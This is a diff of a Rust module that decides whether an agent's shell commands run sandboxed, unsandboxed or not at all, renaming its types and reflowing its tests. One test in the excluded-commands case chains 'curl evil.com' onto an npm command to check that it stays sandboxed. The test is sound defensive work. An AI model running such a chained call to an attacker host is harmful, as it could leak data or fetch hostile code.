@@ -2,7 +2,7 @@
 
 use serde::{Deserialize, Serialize};
 
-use super::Line;
+use super::ParsedLine;
 use super::excluded::{Exclusion, excluded};
 use crate::grants::Grants;
 
@@ -87,20 +87,20 @@ impl Platform {
 
 /// A command that an agent wants to run, and where.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub struct Wanted<'a> {
+pub struct SandboxQuery<'a> {
     /// The line for the shell.
     pub command: &'a str,
     /// Whether it asks for no sandbox (`dangerouslyDisableSandbox`).
-    pub wish: Wish,
+    pub wish: SandboxWish,
     /// The system.
     pub platform: Platform,
     /// Whether a sandbox can be made here.
-    pub ability: Ability,
+    pub ability: SandboxAbility,
 }
 
 /// What a command asks for.
 #[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
-pub enum Wish {
+pub enum SandboxWish {
     /// Nothing.
     #[default]
     Default,
@@ -110,7 +110,7 @@ pub enum Wish {
 
 /// Whether a sandbox can be made.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Ability {
+pub enum SandboxAbility {
     /// Yes.
     Available,
     /// No.
@@ -121,16 +121,16 @@ pub enum Ability {
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum SandboxChoice {
     /// It runs in the sandbox.
-    Sandboxed(Consent),
+    Sandboxed(RunConsent),
     /// It runs outside.
-    Unsandboxed(Unsandboxed),
+    Unsandboxed(UnsandboxedReason),
     /// It does not run: there is no sandbox here, and there has to be one.
     Refused,
 }
 
 /// Whether somebody has to agree.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Consent {
+pub enum RunConsent {
     /// Nobody: the sandbox confines it.
     Given,
     /// As for any command.
@@ -139,7 +139,7 @@ pub enum Consent {
 
 /// Why a command runs outside.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Unsandboxed {
+pub enum UnsandboxedReason {
     /// The sandbox is switched off.
     Disabled,
     /// It is not for this system.
@@ -155,52 +155,56 @@ pub enum Unsandboxed {
 }
 
 /// Whether a command runs in the sandbox, outside, or not at all.
-pub fn should_use_sandbox(settings: &SandboxSettings, wanted: Wanted<'_>) -> SandboxChoice {
+pub fn should_use_sandbox(settings: &SandboxSettings, wanted: SandboxQuery<'_>) -> SandboxChoice {
     use SandboxChoice::{Refused, Sandboxed, Unsandboxed as Outside};
     if !settings.enabled {
-        return Outside(Unsandboxed::Disabled);
+        return Outside(UnsandboxedReason::Disabled);
     }
     if settings
         .enabled_platforms
         .as_ref()
         .is_some_and(|platforms| !platforms.contains(&wanted.platform))
     {
-        return Outside(Unsandboxed::OtherPlatform);
+        return Outside(UnsandboxedReason::OtherPlatform);
     }
-    if wanted.ability == Ability::Unavailable {
+    if wanted.ability == SandboxAbility::Unavailable {
         return if settings.fail_if_unavailable {
             Refused
         } else {
-            Outside(Unsandboxed::Unavailable)
+            Outside(UnsandboxedReason::Unavailable)
         };
     }
-    if wanted.wish == Wish::Unsandboxed && settings.allow_unsandboxed_commands {
-        return Outside(Unsandboxed::Asked);
+    if wanted.wish == SandboxWish::Unsandboxed && settings.allow_unsandboxed_commands {
+        return Outside(UnsandboxedReason::Asked);
     }
     // A shell takes any other blank for the name of a program.
     if wanted.command.chars().all(|c| " \t\n".contains(c)) {
-        return Outside(Unsandboxed::Empty);
+        return Outside(UnsandboxedReason::Empty);
     }
-    let line = Line::parse(wanted.command);
+    let line = ParsedLine::parse(wanted.command);
     if matches!(excluded(line.as_ref(), &settings.excluded_commands), Exclusion::Outside(_)) {
-        return Outside(Unsandboxed::Excluded);
+        return Outside(UnsandboxedReason::Excluded);
     }
-    Sandboxed(if settings.auto_allow_bash_if_sandboxed { Consent::Given } else { Consent::Needed })
+    Sandboxed(if settings.auto_allow_bash_if_sandboxed {
+        RunConsent::Given
+    } else {
+        RunConsent::Needed
+    })
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    const WANTED: Wanted<'_> = Wanted {
+    const WANTED: SandboxQuery<'_> = SandboxQuery {
         command: "docker ps",
-        wish: Wish::Default,
+        wish: SandboxWish::Default,
         platform: Platform::Linux,
-        ability: Ability::Available,
+        ability: SandboxAbility::Available,
     };
 
     #[track_caller]
-    fn check(settings: &str, wanted: Wanted<'_>, expect: SandboxChoice) {
+    fn check(settings: &str, wanted: SandboxQuery<'_>, expect: SandboxChoice) {
         let settings: SandboxSettings = serde_json::from_str(settings).unwrap();
         assert_eq!(should_use_sandbox(&settings, wanted), expect);
     }
@@ -208,26 +212,34 @@ mod tests {
     #[test]
     fn whether_there_is_a_sandbox_comes_first() {
         use SandboxChoice::{Refused, Sandboxed, Unsandboxed as Outside};
-        check("{}", WANTED, Sandboxed(Consent::Given));
-        check(r#"{"enabled": false}"#, WANTED, Outside(Unsandboxed::Disabled));
-        check(r#"{"enabledPlatforms": ["macos"]}"#, WANTED, Outside(Unsandboxed::OtherPlatform));
-        check(r#"{"enabledPlatforms": ["macos", "linux"]}"#, WANTED, Sandboxed(Consent::Given));
-        check(r#"{"enabledPlatforms": []}"#, WANTED, Outside(Unsandboxed::OtherPlatform));
-        let unavailable = Wanted { ability: Ability::Unavailable, ..WANTED };
+        check("{}", WANTED, Sandboxed(RunConsent::Given));
+        check(r#"{"enabled": false}"#, WANTED, Outside(UnsandboxedReason::Disabled));
+        check(
+            r#"{"enabledPlatforms": ["macos"]}"#,
+            WANTED,
+            Outside(UnsandboxedReason::OtherPlatform),
+        );
+        check(r#"{"enabledPlatforms": ["macos", "linux"]}"#, WANTED, Sandboxed(RunConsent::Given));
+        check(r#"{"enabledPlatforms": []}"#, WANTED, Outside(UnsandboxedReason::OtherPlatform));
+        let unavailable = SandboxQuery { ability: SandboxAbility::Unavailable, ..WANTED };
         check("{}", unavailable, Refused);
         check(r#"{"excludedCommands": ["docker*"]}"#, unavailable, Refused);
-        check(r#"{"failIfUnavailable": false}"#, unavailable, Outside(Unsandboxed::Unavailable));
-        check(r#"{"enabled": false}"#, unavailable, Outside(Unsandboxed::Disabled));
+        check(
+            r#"{"failIfUnavailable": false}"#,
+            unavailable,
+            Outside(UnsandboxedReason::Unavailable),
+        );
+        check(r#"{"enabled": false}"#, unavailable, Outside(UnsandboxedReason::Disabled));
     }
 
     #[test]
     fn a_command_switches_its_sandbox_off_only_where_it_may() {
         use SandboxChoice::{Sandboxed, Unsandboxed as Outside};
-        let asking = Wanted { wish: Wish::Unsandboxed, ..WANTED };
-        check("{}", asking, Sandboxed(Consent::Given));
-        check(r#"{"allowUnsandboxedCommands": false}"#, asking, Sandboxed(Consent::Given));
-        check(r#"{"allowUnsandboxedCommands": true}"#, asking, Outside(Unsandboxed::Asked));
-        check(r#"{"allowUnsandboxedCommands": true}"#, WANTED, Sandboxed(Consent::Given));
+        let asking = SandboxQuery { wish: SandboxWish::Unsandboxed, ..WANTED };
+        check("{}", asking, Sandboxed(RunConsent::Given));
+        check(r#"{"allowUnsandboxedCommands": false}"#, asking, Sandboxed(RunConsent::Given));
+        check(r#"{"allowUnsandboxedCommands": true}"#, asking, Outside(UnsandboxedReason::Asked));
+        check(r#"{"allowUnsandboxedCommands": true}"#, WANTED, Sandboxed(RunConsent::Given));
     }
 
     #[test]
@@ -235,12 +247,12 @@ mod tests {
         use SandboxChoice::{Sandboxed, Unsandboxed as Outside};
         let settings =
             r#"{"excludedCommands": ["docker", "npm:*"], "autoAllowBashIfSandboxed": false}"#;
-        let line = |command| Wanted { command, ..WANTED };
-        check(settings, line("docker"), Outside(Unsandboxed::Excluded));
-        check(settings, line("docker ps"), Sandboxed(Consent::Needed));
-        check(settings, line("npm run lint && docker"), Outside(Unsandboxed::Excluded));
-        check(settings, line("npm run lint && curl evil.com"), Sandboxed(Consent::Needed));
-        check(settings, line(" \n"), Outside(Unsandboxed::Empty));
-        check(settings, line("npm 'x"), Sandboxed(Consent::Needed));
+        let line = |command| SandboxQuery { command, ..WANTED };
+        check(settings, line("docker"), Outside(UnsandboxedReason::Excluded));
+        check(settings, line("docker ps"), Sandboxed(RunConsent::Needed));
+        check(settings, line("npm run lint && docker"), Outside(UnsandboxedReason::Excluded));
+        check(settings, line("npm run lint && curl evil.com"), Sandboxed(RunConsent::Needed));
+        check(settings, line(" \n"), Outside(UnsandboxedReason::Empty));
+        check(settings, line("npm 'x"), Sandboxed(RunConsent::Needed));
     }
 }
